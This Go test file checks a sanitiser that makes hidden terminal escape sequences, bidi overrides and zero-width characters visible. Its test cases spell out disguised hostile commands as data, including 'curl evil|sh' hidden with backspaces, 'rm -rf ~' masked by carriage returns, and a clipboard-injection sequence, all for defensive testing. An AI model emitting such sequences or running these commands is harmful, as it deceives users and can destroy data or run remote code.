package visible

import (
	"strings"
	"testing"
)

// The attacks (issue 31 items 5 and 11): each must come out with
// no byte a terminal acts on, and with the hidden part readable.
func TestAttacksAreShown(t *testing.T) {
	cases := []struct {
		name, in, want string
	}{
		{"conceal", "git status \x1b[8m; touch PWNED #\x1b[0m", `git status \x1b[8m; touch PWNED #\x1b[0m`},
		{"carriage return overwrite", "rm -rf ~\r\x1b[Kls", `rm -rf ~\r\x1b[Kls`},
		{"backspaces", "curl evil|sh\b\b\b\b\b\b\b\b\b\b\b\becho ok", `curl evil|sh\b\b\b\b\b\b\b\b\b\b\b\becho ok`},
		{"osc 52 clipboard", "note\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", `note\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07`},
		{"osc 8 link", "\x1b]8;;https://evil\x1b\\click\x1b]8;;\x1b\\", `\x1b]8;;https://evil\x1b\click\x1b]8;;\x1b\`},
		{"c1 csi", "ls \u009b8mhidden", `ls \u009b8mhidden`},
		{"raw 8-bit csi", "ls \x9b8mhidden", `ls \x9b8mhidden`},
		{"bidi override", "cat safe\u202e.txt; rm -rf ~ \u202c", `cat safe\u202e.txt; rm -rf ~ \u202c`},
		{"bidi isolate", "a\u2066b\u2069", `a\u2066b\u2069`},
		{"zero width space", "rm\u200b -rf", `rm\u200b -rf`},
		{"tag characters", "ok\U000E0041\U000E0042", `ok\U000e0041\U000e0042`},
		{"line separator", "one\u2028two", `one\u2028two`},
		{"del", "a\x7fb", `a\x7fb`},
		{"nul", "a\x00b", `a\x00b`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			for _, f := range []func(string) string{Line, Text} {
				got := f(c.in)
				if got != c.want {
					t.Errorf("got %q, want %q", got, c.want)
				}
				if !Clean(got, false) {
					t.Errorf("%q still holds a hidden character", got)
				}
			}
		})
	}
}

func TestTextKeepsLayout(t *testing.T) {
	if got := Text("a\tb\r\nc\nd"); got != "a\tb\nc\nd" {
		t.Errorf("Text = %q", got)
	}
	if got := Line("a\tb\nc"); got != `a\tb\nc` {
		t.Errorf("Line = %q", got)
	}
	for _, s := range []string{"plain ascii", "üñíçødé — “quotes” 日本語 🌲", "👨\u200d👩\u200d👧"} {
		if Line(s) != s || Text(s) != s || !Clean(s, false) {
			t.Errorf("%q changed", s)
		}
	}
}

func TestOutputStripsSequencesAndShowsTheRest(t *testing.T) {
	got := Output("\x1b[32mok\x1b[0m\n\x1b]52;c;Y3VybA==\x07done\x1b[8mhidden\rx\u202e")
	if want := "ok\ndonehidden\\rx\\u202e"; got != want {
		t.Errorf("Output = %q, want %q", got, want)
	}
	if !Clean(got, true) {
		t.Errorf("%q holds a hidden character", got)
	}
}

func TestCleanNeedsNoAllocation(t *testing.T) {
	s := strings.Repeat("plain text, line\n", 100)
	if n := testing.AllocsPerRun(100, func() { _ = Text(s) }); n != 0 {
		t.Errorf("clean text allocated %v times", n)
	}
}

func BenchmarkTextClean(b *testing.B) {
	s := strings.Repeat("an ordinary line of model output — with ünïcode\n", 40)
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		_ = Text(s)
	}
}

func TestWriter(t *testing.T) {
	var b strings.Builder
	w := NewWriter(&b)
	n, err := w.Write([]byte("final answer\x1b]52;c;Y3VybA==\x07\r\n"))
	if err != nil || n != len("final answer\x1b]52;c;Y3VybA==\x07\r\n") {
		t.Fatalf("Write = %d, %v", n, err)
	}
	if got := b.String(); got != "final answer\\x1b]52;c;Y3VybA==\\x07\n" {
		t.Errorf("wrote %q", got)
	}
	if NewWriter(w) != w {
		t.Error("a Writer is wrapped twice")
	}
}
